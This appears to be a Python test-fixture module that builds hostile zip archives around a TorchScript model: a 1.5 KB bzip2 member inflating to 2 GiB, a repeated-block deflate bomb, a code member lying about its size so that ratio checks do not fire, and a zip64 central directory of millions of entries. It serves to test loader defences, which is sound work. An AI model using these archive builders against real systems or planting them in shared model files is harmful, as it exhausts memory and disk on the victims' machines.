"""Hostile zip archives, written record by record (zipfile cannot write lies): a bzip2 member
declaring 2 GiB, a central directory of millions of entries, a deflate bomb, with honest or
lying declared sizes. Each is built in well under a second (the 8M-entry directory is one block
of records written over and over)."""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

GiB = 1 << 30
MiB = 1 << 20

#: bz2.BZ2Compressor(9) over 2 GiB of zero bytes (13 s to compute, so kept here): 1,522 bytes
BZIP2_2GIB = base64.b64decode(
    "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakK"
    "gJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCX"
    "MUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFB"
    "WSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkm"
    "U1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZ"
    "Dgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J"
    "4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLf"
    "AV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFf"
    "jkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45A"
    "AMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADA"
    "AAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAA"
    "CCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAgg"
    "ADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAw"
    "gE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBN"
    "RkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZC"
    "oCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAl"
    "qQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakK"
    "gJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCX"
    "MUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFB"
    "WSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkm"
    "U1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZ"
    "Dgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J"
    "4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZgLDoDAEUpUCAwAAABAAIIAAwzAUppkiRIbFIkSHi7kinChIb"
    "c2UzQA=="
)
BZIP2_2GIB_CRC = 0x4DBDF21C  # zlib.crc32 of 2 GiB of zeros


@dataclass(frozen=True)
class Member:
    name: str
    data: bytes  # as stored (compressed for deflate/bzip2)
    method: int = zipfile.ZIP_STORED
    file_size: int | None = None  # declared uncompressed size; None: len(data)
    crc: int | None = None  # declared CRC; None: crc32(data)


def _sizes(m: Member, size: int) -> tuple[int, bytes]:
    """The 32-bit size field and the zip64 extra field that carries a size past 4 GiB."""
    if size < 0xFFFFFFFF:
        return size, b""
    return 0xFFFFFFFF, struct.pack("<HHQ", 0x0001, 8, size)


def _local(m: Member, name: bytes, size: int, crc: int) -> bytes:
    small, extra = _sizes(m, size)
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0x800, m.method, 0, 0x21, crc,
                       len(m.data), small, len(name), len(extra)) + name + extra  # fmt: skip


def _central(m: Member, name: bytes, size: int, crc: int, offset: int) -> bytes:
    small, extra = _sizes(m, size)
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0x800, m.method, 0, 0x21,
                       crc, len(m.data), small, len(name), len(extra), 0, 0, 0, 0,
                       offset) + name + extra  # fmt: skip


def _end(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, 0)


def write_zip(path: Path, members: list[Member]) -> Path:
    """A zip of exactly these records (sizes and CRCs as declared, not as computed)."""
    directory = bytearray()
    with path.open("wb") as fh:
        for m in members:
            name = m.name.encode()
            size = len(m.data) if m.file_size is None else m.file_size
            crc = zlib.crc32(m.data) if m.crc is None else m.crc
            directory += _central(m, name, size, crc, fh.tell())
            fh.write(_local(m, name, size, crc) + m.data)
        offset = fh.tell()
        fh.write(bytes(directory) + _end(len(members), len(directory), offset))
    return path


def torchscript_members(model: Path) -> list[Member]:
    """The members of a TorchScript archive we wrote ourselves, stored uncompressed."""
    with zipfile.ZipFile(model) as archive:
        return [Member(info.filename, archive.read(info)) for info in archive.infolist()]


def bzip2_bomb(path: Path, model: Path) -> Path:
    """A TorchScript archive plus one 1.5 KB bzip2 member that inflates to 2 GiB."""
    root = torchscript_members(model)[0].name.split("/")[0]
    bomb = Member(f"{root}/data/99", BZIP2_2GIB, zipfile.ZIP_BZIP2, 2 * GiB, BZIP2_2GIB_CRC)
    return write_zip(path, [*torchscript_members(model), bomb])


def garbage_bzip2(path: Path, model: Path) -> Path:
    """A bzip2 member whose data is not bzip2 at all (zipfile raised OSError on it)."""
    root = torchscript_members(model)[0].name.split("/")[0]
    junk = Member(f"{root}/data/98", b"BZh9" + bytes(range(256)) * 4, zipfile.ZIP_BZIP2, 4096)
    return write_zip(path, [*torchscript_members(model), junk])


def deflate_bomb(path: Path, model: Path, compressed_mib: int = 8, honest: bool = True) -> Path:
    """A TorchScript archive plus a deflate member of about `compressed_mib` MiB that inflates
    to about 1000x that (byte-aligned full-flush blocks of zeros, repeated). `honest` declares
    the real size; otherwise the member claims to be stored-size (ratio 1) and a bogus CRC."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = deflater.compress(b"\0" * (16 * MiB)) + deflater.flush(zlib.Z_FULL_FLUSH)
    repeats = max(1, compressed_mib * MiB // len(block))
    data = block * repeats + deflater.flush()
    real = repeats * 16 * MiB
    root = torchscript_members(model)[0].name.split("/")[0]
    bomb = Member(f"{root}/data/97", data, zipfile.ZIP_DEFLATED,
                  real if honest else len(data), 0 if honest else 1)  # fmt: skip
    return write_zip(path, [*torchscript_members(model), bomb])


def lying_code(path: Path, model: Path, size: int) -> Path:
    """A TorchScript archive plus a code member of `size` bytes of hex text (deflates only
    about 2x, so no ratio check fires) that declares 1 KiB."""
    import os

    text = os.urandom(size // 2).hex().encode()
    deflater = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    data = deflater.compress(text) + deflater.flush()
    root = torchscript_members(model)[0].name.split("/")[0]
    liar = Member(f"{root}/code/__torch__/big.py", data, zipfile.ZIP_DEFLATED, 1024)
    return write_zip(path, [*torchscript_members(model), liar])


def _zip64_end(count: int, size: int, offset: int) -> bytes:
    """zip64 end record + locator + a classic end record that points to them."""
    record = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, offset)
    locator = struct.pack("<IIQI", 0x07064B50, 0, offset + size, 1)
    return record + locator + _end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def many_entries(path: Path, count: int, declared: int | None = None) -> Path:
    """A zip of one empty member and a central directory of `count` one-letter entries that
    all point to it (47 bytes an entry), its zip64 end record declaring `declared` entries
    (default: the truth). Python's zipfile reads such a directory whole before it counts it."""
    empty = Member("a", b"")
    record = _central(empty, b"a", 0, 0, 0)
    block = record * 20_000
    with path.open("wb") as fh:
        fh.write(_local(empty, b"a", 0, 0))
        start = fh.tell()
        written = 0
        while written < count:
            n = min(20_000, count - written)
            fh.write(block if n == 20_000 else record * n)
            written += n
        size = fh.tell() - start
        fh.write(_zip64_end(count if declared is None else declared, size, start))
    return path
